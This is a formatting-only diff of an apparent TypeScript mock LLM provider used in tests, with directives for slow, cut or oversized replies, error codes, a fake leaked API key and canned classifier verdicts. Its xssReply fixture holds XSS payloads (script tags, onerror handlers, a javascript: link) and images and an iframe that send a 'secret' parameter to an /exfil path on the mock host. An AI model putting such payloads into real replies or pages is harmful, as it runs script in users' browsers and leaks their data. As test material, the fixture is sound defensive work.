@@ -58,11 +58,41 @@ export const XSS_REPLY_END_MARKER = "XSS-REPLY-END";
 
 /** What the last user message asked the mock to do. */
 export type Directive =
-  | { kind: "default" | "markdown" | "xss" | "slow" | "hang" | "cut" | "echo" | "repeat" | "secret" | "overrun" | "pause" | "judge-attack" | "judge-benign" | "judge-junk" }
+  | {
+      kind:
+        | "default"
+        | "markdown"
+        | "xss"
+        | "slow"
+        | "hang"
+        | "cut"
+        | "echo"
+        | "repeat"
+        | "secret"
+        | "overrun"
+        | "pause"
+        | "judge-attack"
+        | "judge-benign"
+        | "judge-junk";
+    }
   | { kind: "status"; status: number }
   | { kind: "unknown"; text: string };
 
-const SIMPLE_DIRECTIVES = ["markdown", "xss", "slow", "hang", "cut", "echo", "repeat", "secret", "overrun", "pause", "judge-attack", "judge-benign", "judge-junk"] as const;
+const SIMPLE_DIRECTIVES = [
+  "markdown",
+  "xss",
+  "slow",
+  "hang",
+  "cut",
+  "echo",
+  "repeat",
+  "secret",
+  "overrun",
+  "pause",
+  "judge-attack",
+  "judge-benign",
+  "judge-junk",
+] as const;
 
 /** How long `[[mock:pause]]` waits after its second chunk. */
 export const PAUSE_MS = 3_000;
@@ -162,17 +192,44 @@ function splitAwkwardly(text: string): string[] {
 }
 
 const MARKDOWN_REPLY = [
-  "# Mock markdown reply", "", "Some **bold** text and a list:", "", "- first item", "- second item with `inline code`", "",
-  "```ts", "export function add(a: number, b: number): number {", "  return a + b;", "}", "```", "",
-  "| Column | Value |", "| ------ | ----- |", "| alpha  | 1     |", "| beta   | 2     |", "",
+  "# Mock markdown reply",
+  "",
+  "Some **bold** text and a list:",
+  "",
+  "- first item",
+  "- second item with `inline code`",
+  "",
+  "```ts",
+  "export function add(a: number, b: number): number {",
+  "  return a + b;",
+  "}",
+  "```",
+  "",
+  "| Column | Value |",
+  "| ------ | ----- |",
+  "| alpha  | 1     |",
+  "| beta   | 2     |",
+  "",
   "See [the documentation](https://example.com/docs) for more.",
 ].join("\n");
 
 function xssReply(origin: string): string {
   return [
-    "Hostile content follows.", "", `<img src=x onerror="alert(1)">`, "", "<script>alert(2)</script>", "",
-    "[click me](javascript:alert(3))", "", `![exfil](${origin}/exfil/img.png?d=secret)`, "", `<img src="${origin}/exfil/raw.png">`,
-    "", `<iframe src="${origin}/exfil/frame"></iframe>`, "", XSS_REPLY_END_MARKER,
+    "Hostile content follows.",
+    "",
+    `<img src=x onerror="alert(1)">`,
+    "",
+    "<script>alert(2)</script>",
+    "",
+    "[click me](javascript:alert(3))",
+    "",
+    `![exfil](${origin}/exfil/img.png?d=secret)`,
+    "",
+    `<img src="${origin}/exfil/raw.png">`,
+    "",
+    `<iframe src="${origin}/exfil/frame"></iframe>`,
+    "",
+    XSS_REPLY_END_MARKER,
   ].join("\n");
 }
 
@@ -182,24 +239,38 @@ export const leakedKeyOf = (id: number) => ["sk", "proj", `mockLeak${id}x`.padEn
 function replyChunks(args: { directive: Directive; provider: string; origin: string; echo: unknown; lastUserText: string; id: number }): string[] {
   const { directive } = args;
   switch (directive.kind) {
-    case "markdown": return splitAwkwardly(MARKDOWN_REPLY);
-    case "xss": return splitAwkwardly(xssReply(args.origin));
-    case "slow": return Array.from({ length: 400 }, (_, i) => `chunk ${i + 1} `);
-    case "cut": return ["Partial ", "reply before ", "the cut "];
-    case "echo": return splitAwkwardly(JSON.stringify(args.echo));
+    case "markdown":
+      return splitAwkwardly(MARKDOWN_REPLY);
+    case "xss":
+      return splitAwkwardly(xssReply(args.origin));
+    case "slow":
+      return Array.from({ length: 400 }, (_, i) => `chunk ${i + 1} `);
+    case "cut":
+      return ["Partial ", "reply before ", "the cut "];
+    case "echo":
+      return splitAwkwardly(JSON.stringify(args.echo));
     // The user's text as the provider received it (fence included), so tests see placeholders come back.
-    case "repeat": return splitAwkwardly(`You wrote: ${args.lastUserText}`);
-    case "secret": return splitAwkwardly(`Here is a key: ${leakedKeyOf(args.id)} — keep it safe.`);
+    case "repeat":
+      return splitAwkwardly(`You wrote: ${args.lastUserText}`);
+    case "secret":
+      return splitAwkwardly(`Here is a key: ${leakedKeyOf(args.id)} — keep it safe.`);
     // Two chunks, a pause of PAUSE_MS (time for a test to break something mid-reply), then the rest.
-    case "pause": return ["Before ", "the pause. ", "After ", "the pause."];
+    case "pause":
+      return ["Before ", "the pause. ", "After ", "the pause."];
     // One word a chunk (a token each), far past any max_tokens the app sends.
-    case "overrun": return Array.from({ length: OVERRUN_WORDS }, (_, i) => `w${i} `);
+    case "overrun":
+      return Array.from({ length: OVERRUN_WORDS }, (_, i) => `w${i} `);
     // A second-opinion classifier's answers: a verdict in the JSON it must write, or prose it must not.
-    case "judge-attack": return ['{"attack": true, ', '"confidence": 0.93}'];
-    case "judge-benign": return ['{"attack": false, ', '"confidence": 0.88}'];
-    case "judge-junk": return ["I think this message is ", "probably fine, but who knows."];
-    case "unknown": return [`Unknown mock directive ${directive.text}.`];
-    default: return ["Hello ", "from the ", `mock ${args.provider} `, "model."];
+    case "judge-attack":
+      return ['{"attack": true, ', '"confidence": 0.93}'];
+    case "judge-benign":
+      return ['{"attack": false, ', '"confidence": 0.88}'];
+    case "judge-junk":
+      return ["I think this message is ", "probably fine, but who knows."];
+    case "unknown":
+      return [`Unknown mock directive ${directive.text}.`];
+    default:
+      return ["Hello ", "from the ", `mock ${args.provider} `, "model."];
   }
 }
 
@@ -250,11 +321,13 @@ export async function startMockUpstream({ spec, options = {} }: { spec: Provider
     const gone = new AbortController();
     let cutByMock = false;
     let record: RecordedRequest | undefined;
-    const done = new Promise<void>((resolve) => res.once("close", () => {
-      gone.abort();
-      if (record && !res.writableFinished && !cutByMock) record.closedEarly = true;
-      resolve();
-    }));
+    const done = new Promise<void>((resolve) =>
+      res.once("close", () => {
+        gone.abort();
+        if (record && !res.writableFinished && !cutByMock) record.closedEarly = true;
+        resolve();
+      }),
+    );
     const body = await readBody(req);
     const method = req.method ?? "GET";
     if (method !== "POST" || path !== spec.chatPath) return sendJson(res, spec.other({ method, path }));
@@ -274,7 +347,8 @@ export async function startMockUpstream({ spec, options = {} }: { spec: Provider
     const framing = spec.framing({ id, body: isRecord(body) ? body : {} });
     const directive = parseDirective(lastUserText);
     const credential = credentialOf(record);
-    if (credential !== null && options.rejectKeys?.has(credential)) return sendJson(res, { status: 401, body: framing.errorBody(401), headers: framing.headers });
+    if (credential !== null && options.rejectKeys?.has(credential))
+      return sendJson(res, { status: 401, body: framing.errorBody(401), headers: framing.headers });
     if (directive.kind === "status") {
       const retry: Record<string, string> = directive.status === 429 ? { "retry-after": "1" } : {};
       const reply = { status: directive.status, body: framing.errorBody(directive.status) };
